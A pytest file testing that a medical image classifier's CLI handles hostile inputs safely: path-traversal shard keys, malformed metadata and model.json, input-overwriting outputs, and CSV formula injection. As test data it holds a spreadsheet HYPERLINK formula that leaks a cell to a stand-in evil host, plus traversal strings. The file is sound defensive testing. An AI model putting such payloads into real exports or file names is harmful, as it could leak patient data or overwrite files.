"""evaluate / predict / cam on untrusted input: hostile shard keys and metadata, garbage model.json,
outputs that would overwrite inputs, spreadsheet formulas, wrong options. Each failure is one line
on stderr with the right exit status, never a traceback, and nothing is written outside --out.

Some cases run twice: through the shard reader, and with `predict_split` replaced by a reader that
checks nothing ("past the reader"), so that evaluate's own defences are tested whatever the reader
in front of them skips."""

from __future__ import annotations

import csv
import json
import math
import shutil
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from conftest import REPO, TINY_TRAIN_OVERRIDES
from gastro_dist.cli import main
from gastro_dist.evaluation import evaluate
from gastro_dist.files import MAX_NAME_CHARS, csv_text, distinct_names, safe_name
from hostile import (copy_pack, edit_index, jpeg_bytes, read_index, read_members, rename_keys, replace_shard_bytes,
                     rewrite_shard, set_each_sample_json, set_images, set_labels)

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("evaluate-hostile")]  # its run is trained once


@pytest.fixture(scope="module")
def trained_run(synthetic_shards, tmp_path_factory) -> Path:
    run = tmp_path_factory.mktemp("hostile") / "run"
    assert main(["train", "--config", str(REPO / "configs" / "smoke.yaml"), "--shards", str(synthetic_shards),
                 "--out", str(run), *TINY_TRAIN_OVERRIDES]) == 0
    return run


def run_evaluate(run: Path, shards: Path, out: Path, *options: str) -> int:
    return main(["evaluate", "--run", str(run), "--shards", str(shards), "--split", "test", "--out", str(out),
                 "--bootstrap", "0", "--workers", "0", *options])


def one_line(text: str) -> str:
    assert len(text.strip().splitlines()) == 1, text
    return text


def files_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file()}


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_rows(path: Path) -> list[dict]:
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


def split_samples(shards: Path, split: str) -> tuple[list[str], np.ndarray]:
    """Keys and labels of a split's samples, grouped by the name up to the first dot as the reader does."""
    keys, labels = [], []
    for entry in read_index(shards)["splits"][split]["shards"]:
        for name, data in read_members(shards / entry["file"]):
            if name.endswith(".cls"):
                keys.append(name[: -len(".cls")])
                labels.append(int(data))
    return keys, np.array(labels)


def read_past_the_reader(monkeypatch, shards: Path, edit=lambda predictions: None) -> None:
    """evaluate gets every sample of the split unchecked, each predicted as the next class, then `edit`ed."""
    def predict_split(accelerator, model, index, data, split, with_meta=False, **_):
        keys, labels = split_samples(shards, split)
        predictions = {"keys": keys, "labels": labels, "probs": np.eye(3)[(labels + 1) % 3], "meta": ["{}"] * len(keys),
                       "skipped": [], "missing": 0}
        edit(predictions)
        return predictions

    def read_shard_images(index, split, keys, max_member_bytes):  # the shard reader would refuse hostile keys
        found = {}
        for entry in read_index(shards)["splits"][split]["shards"]:
            for name, data in read_members(shards / entry["file"]):
                folder, _, file_name = name.rpartition("/")
                stem, _, extension = file_name.partition(".")
                key = f"{folder}/{stem}" if folder else stem
                if key in keys and extension == "jpg":
                    found[key] = data
        return found
    monkeypatch.setattr(evaluate, "predict_split", predict_split)
    monkeypatch.setattr(evaluate, "read_shard_images", read_shard_images)


def run_with_model_json(trained_run: Path, folder: Path, content: bytes) -> Path:
    """A run folder with the trained weights and `content` as its model.json."""
    run = folder / "run"
    run.mkdir()
    (run / "model.safetensors").symlink_to(trained_run / "model.safetensors")
    (run / "model.json").write_bytes(content)
    return run


# ---------------------------------------------------------------- names and cells
def test_safe_name_confines_any_text_to_one_distinct_file_name(tmp_path):
    texts = ["img_000123", "../../escape", "/tmp/abs", "..", ".hidden", "-rf", "", "CON", "con.txt", "a/b", "a_b",
             "a\\b", "x" * 500, "név with spaces", "a_b-" + "0" * 16, "line\nbreak", "trailing."]
    names = [safe_name(text) for text in texts]
    assert names[0] == "img_000123" and names[texts.index("a_b")] == "a_b"  # plain names are kept
    assert len(set(names)) == len(texts)
    for name in names:
        assert len(name) <= MAX_NAME_CHARS + 17
        assert name[0] not in ".-" and not name.endswith(".")
        assert (tmp_path / name).resolve().parent == tmp_path.resolve()
        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}


def test_distinct_names_part_shared_stems_even_by_case():
    names = distinct_names(["x", "x", "X", "y"], ["a/x.jpg", "b/x.jpg", "c/X.png", "y.jpg"])
    assert names[3] == "y" and len({name.casefold() for name in names}) == 4
    assert all(name.startswith(("x-", "X-")) for name in names[:3])


def test_csv_text_neutralises_formula_starts_only():
    for text in ("=HYPERLINK(\"http://x\")", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"):
        assert csv_text(text) == "'" + text
    assert csv_text("patient 12") == "patient 12" and csv_text("") == ""


# ---------------------------------------------------------------- evaluate on hostile shards
@pytest.mark.parametrize("reader", ["shard reader", "past the reader"])
def test_hostile_keys_never_write_outside_out(trained_run, synthetic_shards, tmp_path, monkeypatch, reader):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    style: dict[str, int] = {}

    def hostile(key: str) -> str:  # every other sample '../../escape_*', the others an absolute path
        return f"../../escape_{key}" if style.setdefault(key, len(style) % 2) else f"{elsewhere}/abs_{key}"

    shards = copy_pack(synthetic_shards, tmp_path / "shards")
    # One picture for every sample: with the labels kept, the model must get some of them wrong.
    rewrite_shard(shards, "test", lambda members: set_images(rename_keys(members, hostile), jpeg_bytes()))
    if reader == "past the reader":
        read_past_the_reader(monkeypatch, shards)
    out = tmp_path / "deep" / "er" / "eval"
    before = files_under(tmp_path)

    assert run_evaluate(trained_run, shards, out, "--cam-misclassified", "9") == 0

    written = files_under(tmp_path) - before
    assert written and all(out in path.parents for path in written), sorted(map(str, written))
    wrong = [row for row in csv_rows(out / "predictions.csv") if row["true_label"] != row["predicted_label"]]
    cams = sorted((out / "cam").glob("*.png")) if wrong else []
    assert len(cams) == len(wrong)
    report = (out / "report.md").read_text()
    assert all(f"](cam/{cam.name})" in report for cam in cams)
    if reader == "past the reader":  # every hostile key reached the CAM code
        assert len(cams) == read_index(shards)["splits"]["test"]["count"]


def test_broken_metadata_is_reported_and_formulas_neutralised(trained_run, synthetic_shards, tmp_path, capsys):
    shards = copy_pack(synthetic_shards, tmp_path / "shards")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "open")'
    payloads = [b"{not json", b"[1, 2]", json.dumps({"patient_id": ["p1"], "source": 7}).encode(),
                json.dumps({"patient_id": formula, "source": "-2+3.jpg"}).encode()]
    rewrite_shard(shards, "test", lambda members: set_each_sample_json(members, payloads))
    out = tmp_path / "eval"
    capsys.readouterr()

    assert run_evaluate(trained_run, shards, out) == 0

    metrics = json.loads((out / "metrics.json").read_text())
    assert metrics["num_samples"] == read_index(shards)["splits"]["test"]["count"]  # all still evaluated
    assert metrics["metadata_problems"]["count"] == 3
    warning = [line for line in capsys.readouterr().out.splitlines() if line.startswith("warning:")]
    assert len(warning) == 1 and "metadata_problems" in warning[0]
    rows = csv_rows(out / "predictions.csv")
    hostile_row = next(row for row in rows if row["patient_id"].endswith(formula))
    assert hostile_row["patient_id"] == "'" + formula and hostile_row["source"] == "'-2+3.jpg"
    for row in rows:  # numbers (a negative logit) stay numbers: a spreadsheet reads "-2.5" as one, not a formula
        assert not any(row[cell].startswith(("=", "+", "-", "@")) and not is_number(row[cell]) for cell in row)
        assert math.isclose(sum(float(row[cell]) for cell in row if cell.startswith("prob_")), 1, abs_tol=1e-4)


def test_labels_outside_the_classes_are_skipped_and_reported(trained_run, synthetic_shards, tmp_path, capsys):
    shards = copy_pack(synthetic_shards, tmp_path / "shards")
    rewrite_shard(shards, "test", lambda members: set_labels(members, b"7", count=2))
    out = tmp_path / "eval"
    capsys.readouterr()

    assert run_evaluate(trained_run, shards, out) == 0

    metrics = json.loads((out / "metrics.json").read_text())
    skipped = metrics["skipped_samples"]
    assert skipped["count"] == 2 and len(skipped["reasons"]) >= 2
    assert metrics["num_samples"] + skipped["count"] == read_index(shards)["splits"]["test"]["count"]
    assert len([line for line in capsys.readouterr().out.splitlines() if line.startswith("warning:")]) == 1


def test_unusable_rows_past_the_reader_are_left_out(trained_run, synthetic_shards, tmp_path, monkeypatch, capsys):
    def unusable(predictions):
        predictions["labels"][:2] = [7, -1]  # labels outside the classes
        predictions["probs"][2] = np.nan  # a diverged model
    read_past_the_reader(monkeypatch, synthetic_shards, unusable)
    out = tmp_path / "eval"

    assert run_evaluate(trained_run, synthetic_shards, out) == 0

    metrics = json.loads((out / "metrics.json").read_text())
    reasons = metrics["skipped_samples"]["reasons"]
    assert metrics["skipped_samples"]["count"] == 3 and len(reasons) == 3
    assert "label 7" in reasons[0] and "label -1" in reasons[1] and "non-finite" in reasons[2]
    assert metrics["num_samples"] == read_index(synthetic_shards)["splits"]["test"]["count"] - 3


def test_a_split_with_no_readable_image_is_a_one_line_run_failure(trained_run, synthetic_shards, tmp_path, capsys):
    shards = copy_pack(synthetic_shards, tmp_path / "shards")
    for position, entry in enumerate(read_index(shards)["splits"]["test"]["shards"]):
        replace_shard_bytes(shards, "test", b"not a tar file " * 100, position)
    capsys.readouterr()

    assert run_evaluate(trained_run, shards, tmp_path / "eval") == 1

    error = one_line(capsys.readouterr().err)
    assert entry["file"] in error


# ---------------------------------------------------------------- model.json and options
GOOD_MODEL_JSON = {"architecture": "resnet18", "classes": ["a", "b", "c"], "image_size": 48,
                   "eval_crop_ratio": 0.875, "mean": [0.5, 0.5, 0.5], "std": [0.25, 0.25, 0.25]}


@pytest.mark.parametrize("content", [
    b"{not json", b"\xff\xfe", b"[]", json.dumps({"architecture": "resnet18"}).encode(),
    *[json.dumps({**GOOD_MODEL_JSON, key: value}).encode() for key, value in [
        ("classes", "abc"), ("classes", ["a", "a", "b"]), ("classes", ["a", 2, "c"]), ("image_size", 0),
        ("image_size", "48"), ("image_size", 4), ("mean", [0.5, 0.5]), ("std", [0.2, 0.2, 0.0]),
        ("eval_crop_ratio", None), ("architecture", "no_such_net")]],
])
def test_garbage_model_json_is_a_one_line_usage_error(trained_run, tmp_path, capsys, content):
    run = run_with_model_json(trained_run, tmp_path, content)
    image = tmp_path / "frame.png"
    Image.new("RGB", (64, 64), (90, 30, 30)).save(image)
    capsys.readouterr()

    assert main(["predict", "--run", str(run), str(image), "--out", str(tmp_path / "p.csv")]) == 2

    assert "model.json" in one_line(capsys.readouterr().err)


def test_option_mistakes_are_one_line_usage_errors(trained_run, synthetic_shards, tmp_path, capsys):
    for options, expected in ((["--bootstrap", "-5"], "--bootstrap"),
                              (["--positive-class", "cancer"], "gastric_cancer, gastric_ulcer"),
                              (["--cam-misclassified", "-1"], "--cam-misclassified")):
        capsys.readouterr()
        assert run_evaluate(trained_run, synthetic_shards, tmp_path / "eval", *options) == 2, options
        assert expected in one_line(capsys.readouterr().err)
    assert not (tmp_path / "eval").exists()


def test_default_positive_class_is_silent_without_gastric_cancer(trained_run, synthetic_shards, tmp_path, capsys):
    renamed = "early_cancer"
    meta = json.loads((trained_run / "model.json").read_text())
    meta["classes"] = [renamed if c == "gastric_cancer" else c for c in meta["classes"]]
    run = run_with_model_json(trained_run, tmp_path, json.dumps(meta).encode())
    shards = copy_pack(synthetic_shards, tmp_path / "shards")

    def rename_class(index: dict) -> None:
        index["classes"] = meta["classes"]
        for info in index["splits"].values():
            info["per_class"] = {renamed if c == "gastric_cancer" else c: n for c, n in info["per_class"].items()}
    edit_index(shards, rename_class)

    assert run_evaluate(run, shards, tmp_path / "eval") == 0
    assert json.loads((tmp_path / "eval" / "metrics.json").read_text())["cancer_vs_benign"] is None
    capsys.readouterr()
    assert run_evaluate(run, shards, tmp_path / "eval2", "--cancer-sensitivity", "0.9") == 2
    assert renamed in one_line(capsys.readouterr().err)
    assert run_evaluate(run, shards, tmp_path / "eval3", "--positive-class", renamed) == 0


# ---------------------------------------------------------------- predict and cam outputs
def test_predict_refuses_outputs_that_would_destroy_or_join_its_inputs(trained_run, synthetic_source, tmp_path, capsys):
    folder = tmp_path / "frames"  # copies: a failure must not spoil the session's images
    folder.mkdir()
    frame = Path(shutil.copy(next((synthetic_source / "gastric_ulcer").glob("*.jpg")), tmp_path / "frame.jpg"))
    shutil.copy(frame, folder / "frame.jpg")
    original = frame.read_bytes()
    (tmp_path / "existing").mkdir()
    refused = [([str(frame)], frame), ([str(folder)], folder / "preds.png"), ([str(frame)], tmp_path / "existing")]
    for inputs, out in refused:
        capsys.readouterr()
        assert main(["predict", "--run", str(trained_run), *inputs, "--out", str(out)]) == 2, out
        assert str(out) in one_line(capsys.readouterr().err)
    assert frame.read_bytes() == original and not (folder / "preds.png").exists()

    capsys.readouterr()
    csv_out = tmp_path / "p.csv"
    assert main(["predict", "--run", str(trained_run), str(frame), "--out", str(csv_out), "--cam", str(frame)]) == 2
    assert "--cam" in one_line(capsys.readouterr().err)
    assert frame.read_bytes() == original and not csv_out.exists()


def test_predict_neutralises_formulas_in_paths_and_class_names(trained_run, tmp_path, monkeypatch):
    meta = json.loads((trained_run / "model.json").read_text())
    meta["classes"] = ["=1+1", "@SUM(A1)", "-x"]
    run = run_with_model_json(trained_run, tmp_path, json.dumps(meta).encode())
    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("evil.example","x").png'  # no '/': one file name
    Image.new("RGB", (64, 64), (90, 30, 30)).save(tmp_path / name)

    assert main(["predict", "--run", str(run), name, "--out", "p.csv"]) == 0

    (row,) = csv_rows(tmp_path / "p.csv")
    assert row["path"] == "'" + name and row["predicted_label"] in {"'=1+1", "'@SUM(A1)", "'-x"}
    assert float(row["confidence"]) > 0 and not row["confidence"].startswith("'")


def test_cam_keeps_same_named_frames_apart_and_goes_past_a_bad_one(trained_run, tmp_path, capsys):
    for folder, color in (("a", (200, 40, 40)), ("b", (40, 200, 40))):
        (tmp_path / folder).mkdir()
        Image.new("RGB", (64, 64), color).save(tmp_path / folder / "x.jpg")
    bad = tmp_path / "notes.jpg"
    bad.write_text("not an image")
    out = tmp_path / "cams"
    capsys.readouterr()

    assert main(["cam", "--run", str(trained_run), str(tmp_path / "a" / "x.jpg"), str(bad),
                 str(tmp_path / "b" / "x.jpg"), "--out", str(out)]) == 1

    assert str(bad) in one_line(capsys.readouterr().err)
    overlays = sorted(out.glob("*.png"))
    assert len(overlays) == 2 and all(path.name.startswith("x-") for path in overlays)
    first, second = (np.asarray(Image.open(path)) for path in overlays)
    assert not np.array_equal(first, second)

    # the same through `predict --cam`: the bad file is a CSV row with its error and one line on stderr
    assert main(["predict", "--run", str(trained_run), str(tmp_path / "a" / "x.jpg"), str(bad),
                 str(tmp_path / "b" / "x.jpg"), "--out", str(tmp_path / "p.csv"), "--cam", str(tmp_path / "c")]) == 1
    assert str(bad) in one_line(capsys.readouterr().err)
    assert len(list((tmp_path / "c").glob("*.png"))) == 2
    assert sorted(row["path"] for row in csv_rows(tmp_path / "p.csv") if row["error"]) == [str(bad)]
